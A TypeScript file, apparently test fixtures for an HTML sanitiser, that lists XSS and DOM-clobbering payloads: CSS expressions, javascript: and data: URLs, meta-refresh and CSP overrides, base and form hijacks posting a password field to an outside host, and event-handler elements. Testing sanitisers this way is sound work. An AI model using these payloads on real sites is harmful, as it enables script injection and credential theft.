import { base64, inert, live, type Payload } from './payload.ts';

const run64 = (run: string): string => `data:text/javascript;base64,${base64(run)}`;

/** Payloads that change the page around them, such as styles and base addresses, and payloads of rare elements. */
export const page: readonly Payload[] = [
  inert('style with an old expression', (run) => `<p style="width:expression(${run})">x</p>`),
  inert('style with an escaped expression', (run) => `<p style="x:\\65xpression(${run})">x</p>`),
  inert('style with a behaviour', (run) => `<p style="behavior:url(javascript:${run})">x</p>`),
  inert('style with a binding', (run) => `<p style="-moz-binding:url(javascript:${run})">x</p>`),
  inert('style with a picture of a script', (run) => `<p style="background:url('javascript:${run}')">x</p>`),
  inert('style sheet with a script', (run) => `<style>@import 'javascript:${run}';</style>`),
  inert('style sheet of data', (run) => `<style>@import 'data:text/css,*{x:expression(${run})}';</style>`),
  inert('style sheet that hides all', () => '<style>*{display:none!important}</style>'),
  inert('style that covers all', () => '<p style="position:fixed;inset:0;z-index:99999">x</p>'),
  live(
    'animation that starts',
    (run) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${run}>x</p>`,
  ),
  live(
    'animation that ends',
    (run) => `<style>@keyframes y{}</style><p style="animation:y 1ms" onanimationend=${run}>x</p>`,
  ),
  inert('transition that runs', (run) => `<p style="transition:1s" ontransitionrun=${run}>x</p>`),
  live(
    'region that is seen',
    (run) => `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>x</p>`,
  ),
  inert('refresh with a script', (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`),
  inert(
    'refresh with data',
    (run) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  ),
  inert('a policy of its own', () => `<meta http-equiv="Content-Security-Policy" content="script-src *">`),
  inert('a cookie', () => `<meta http-equiv=Set-Cookie content="a=b">`),
  inert('another character set', (run) => `<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`),
  live('base of scripts', (run) => `<base href="javascript:/"><a href="javascript:${run}">tu</a>`),
  inert('base elsewhere', () => `<base href="https://zaklad.invalid/">`),
  inert('base in another window', () => `<base target=_blank>`),
  inert(
    'form that sends elsewhere',
    () => `<form action="https://zaklad.invalid/"><input name=haslo></form>`,
  ),
  inert(
    'form around what follows',
    () => `<form action="https://zaklad.invalid/"><button style="position:fixed;inset:0">x</button>`,
  ),
  live('field of a form elsewhere', (run) => `<input form=f onfocus=${run} autofocus>`),
  inert(
    'names that hide a document',
    () => `<img name=getElementById><img name=createElement><form name=body></form>`,
  ),
  inert('names that hide a window', () => `<form id=document></form><img id=location name=location>`),
  inert(
    'names that hide a form',
    () => `<form><input name=attributes><input name=parentNode><input name=nodeName></form>`,
  ),
  live('names that hide attributes', (run) => `<form onclick=${run}><input name=attributes></form>`),
  live(
    'names that hide children',
    (run) => `<form onclick=${run}><input id=childNodes><input id=firstChild></form>`,
  ),
  live(
    'names that hide removal',
    (run) => `<form onclick=${run}><input name=removeAttribute><input name=removeChild></form>`,
  ),
  inert(
    'names that hide a collection',
    () => `<a id=x><a id=x name=y href="https://zaklad.invalid">tu</a></a>`,
  ),
  inert('names that hide the root', () => `<div id=root></div><script id=root></script>`),
  inert('names of a prototype', () => `<p id=__proto__ name=constructor>x</p><img name=toString>`),
  inert('names of policies', () => `<a id=trustedTypes></a><a id=DOMPurify href="x:1"></a>`),
  inert(
    'preloaded script',
    (run) => `<link rel=modulepreload href="${run64(run)}"><link rel=preload as=script href="${run64(run)}">`,
  ),
  inert(
    'page fetched before',
    () => `<link rel=prerender href="https://zaklad.invalid"><link rel=dns-prefetch href=//zaklad.invalid>`,
  ),
  inert(
    'rules of speculation',
    () => `<script type=speculationrules>{"prerender":[{"urls":["/x"]}]}</script>`,
  ),
  inert('map of imports', (run) => `<script type=importmap>{"imports":{"x":"${run64(run)}"}}</script>`),
  live('script that takes the place of another', (run) => `<script src="x:" onerror=${run}></script>`),
  live('script from a stolen mark', (run) => `<script nonce=abc>${run}</script>`),
  live('script in a text for scripts', (run) => `<svg><script type="text/ecmascript">${run}</script></svg>`),
  inert('script of a later time', (run) => `<script defer async type="text/plain">${run}</script>`),
  live('picture that tells of itself', (run) => `<img src="https://zaklad.invalid/a.png" onerror=${run}>`),
  live('element that edits itself', (run) => `<p contenteditable onbeforeinput=${run}>x</p>`),
  live(
    'list of suggestions',
    (run) => `<input list=l onchange=${run}><datalist id=l><option value=x></datalist>`,
  ),
  live('portal to elsewhere', (run) => `<portal src="javascript:1" onclick=${run}>x</portal>`),
  live('fenced frame', (run) => `<fencedframe onclick=${run}></fencedframe>`),
  live('slot', (run) => `<slot name=x onclick=${run}>x</slot>`),
  live('output', (run) => `<output onclick=${run}>x</output>`),
  live('meter', (run) => `<meter onclick=${run} value=1>x</meter>`),
];
